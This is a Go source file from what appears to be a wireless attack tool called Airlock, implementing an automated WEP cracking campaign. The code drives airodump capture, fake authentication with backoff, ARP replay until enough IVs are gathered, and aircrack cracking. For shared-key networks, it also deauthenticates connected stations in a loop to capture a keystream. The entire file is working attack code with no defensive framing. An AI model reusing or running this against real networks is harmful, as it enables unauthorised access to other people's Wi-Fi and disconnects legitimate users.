package attack

import (
	"context"
	"fmt"

	"Airlock/internal/aircrack"
	"Airlock/internal/aireplay"
	"Airlock/internal/capture"
	"Airlock/internal/target"
	"Airlock/pkg/logger"

	"github.com/cenkalti/backoff/v4"
)

// wepRun is the state of one WEP campaign. Machines are nil until the
// phase that needs them.
type wepRun struct {
	*Attacker
	t     *target.Target
	group *Group

	capturer *capture.Airodump
	auth     *aireplay.FakeAuth
	replay   *aireplay.ArpReplay
	cracker  *aircrack.Cracker
	backoff  *backoff.ExponentialBackOff
}

// WEP captures traffic of t, keeps a fake association alive, replays ARP
// requests until enough IVs are in and cracks the capture while it grows.
func (a *Attacker) WEP(ctx context.Context, t *target.Target) error {
	r := &wepRun{Attacker: a, t: t, group: a.newGroup("wep", t)}
	defer closeGroup(r.group)

	r.backoff = backoff.NewExponentialBackOff()
	r.backoff.InitialInterval = a.cfg.Timing.AuthBackoff
	r.backoff.MaxInterval = a.cfg.Timing.AuthBackoffMax
	r.backoff.MaxElapsedTime = 0
	r.backoff.Reset()

	capturer, err := a.tools.Airodump(&t.AccessPoint)
	if err != nil {
		return err
	}
	r.group.Adopt(capturer)
	r.capturer = capturer

	logger.Infof("[*] Authenticating with %s", t)
	if err := r.startAuth(); err != nil {
		return err
	}
	if err := r.until(ctx, func() bool { return r.auth.State() == aireplay.Authenticated }); err != nil {
		return err
	}

	logger.Infof("[*] Replaying ARP requests until %d IVs are captured", a.cfg.WEP.MinIVs)
	if err := r.startReplay(); err != nil {
		return err
	}
	var capturePath string
	if err := r.until(ctx, func() bool {
		path, ok := r.capturer.CapturePath()
		capturePath = path
		return ok && r.enoughIVs()
	}); err != nil {
		return err
	}

	logger.Infof("[*] Cracking %s with %d IVs", t, r.capturer.IVs())
	cracker, err := a.tools.WEPCracker(capturePath, t)
	if err != nil {
		return err
	}
	r.group.Adopt(cracker)
	r.cracker = cracker
	return r.until(ctx, t.IsCracked)
}

// enoughIVs trusts the count airodump-ng reports only once the capture
// file really holds that many unique IVs of the target.
func (r *wepRun) enoughIVs() bool {
	if r.capturer.IVs() < r.cfg.WEP.MinIVs {
		return false
	}
	ready, err := r.capturer.Ready(capture.MinIVs(r.cfg.WEP.MinIVs))
	if err != nil {
		logger.Warnf("[!] Reading the capture of %s: %v", r.t, err)
		return false
	}
	return ready
}

// until ticks every machine each poll interval until done holds.
func (r *wepRun) until(ctx context.Context, done func() bool) error {
	for {
		if err := ctx.Err(); err != nil {
			return err
		}
		if err := r.tick(ctx); err != nil {
			return err
		}
		if done() {
			return nil
		}
		if err := wait(ctx, r.poll()); err != nil {
			return err
		}
	}
}

func (r *wepRun) tick(ctx context.Context) error {
	if err := r.capturer.Update(); err != nil {
		return err
	}
	if err := r.tickAuth(ctx); err != nil {
		return err
	}
	if r.replay != nil {
		if err := r.replay.Update(); err != nil {
			return err
		}
		if r.replay.Flag(aireplay.FlagDeauthenticated) || r.replay.Terminated() {
			logger.Warnf("[!] ARP replay against %s dropped, restarting it", r.t)
			if err := r.group.Release(r.replay); err != nil {
				return err
			}
			if err := r.startReplay(); err != nil {
				return err
			}
		}
	}
	if r.cracker != nil {
		if err := r.cracker.Update(); err != nil {
			return err
		}
	}
	return nil
}

func (r *wepRun) tickAuth(ctx context.Context) error {
	if err := r.auth.Update(); err != nil {
		return err
	}
	switch {
	case r.auth.Flag(aireplay.FlagNeedsKeystream):
		return r.acquireKeystream(ctx)
	case r.auth.Flag(aireplay.FlagDeauthenticated), r.auth.Terminated():
		return r.restartAuth(ctx)
	case r.auth.State() == aireplay.Authenticated:
		r.backoff.Reset()
	}
	return nil
}

func (r *wepRun) startAuth() error {
	auth, err := r.tools.FakeAuth(r.t)
	if err != nil {
		return err
	}
	r.group.Adopt(auth)
	r.auth = auth
	return nil
}

func (r *wepRun) restartAuth(ctx context.Context) error {
	if err := r.group.Release(r.auth); err != nil {
		return err
	}
	delay := r.backoff.NextBackOff()
	if delay == backoff.Stop {
		delay = r.cfg.Timing.AuthBackoffMax
	}
	logger.Warnf("[!] Lost the association with %s, retrying in %s", r.t, delay)
	if err := wait(ctx, delay); err != nil {
		return err
	}
	return r.startAuth()
}

// acquireKeystream pauses the authenticator and kicks stations off the
// network until one of them authenticates again in view of the capturer,
// which then saves the keystream of the shared key exchange.
func (r *wepRun) acquireKeystream(ctx context.Context) error {
	logger.Infof("[*] %s uses shared key authentication, capturing a keystream", r.t)
	if err := r.group.Release(r.auth); err != nil {
		return err
	}
	for {
		if path, ok := r.capturer.KeystreamPath(); ok {
			if err := r.t.Save(target.Keystream, path); err != nil {
				return fmt.Errorf("keystream: %w", err)
			}
			return r.startAuth()
		}
		stations := r.capturer.Stations()
		if len(stations) == 0 {
			logger.Infof("[*] No stations seen on %s yet, broadcasting", r.t)
		}
		if err := r.tools.Deauth(ctx, r.t.BSSID, stations, r.cfg.WEP.DeauthCount); err != nil {
			return err
		}
		if err := wait(ctx, r.poll()); err != nil {
			return err
		}
		if err := r.capturer.Update(); err != nil {
			return err
		}
	}
}

func (r *wepRun) startReplay() error {
	replay, err := r.tools.ArpReplay(r.t)
	if err != nil {
		return err
	}
	r.group.Adopt(replay)
	r.replay = replay
	return nil
}
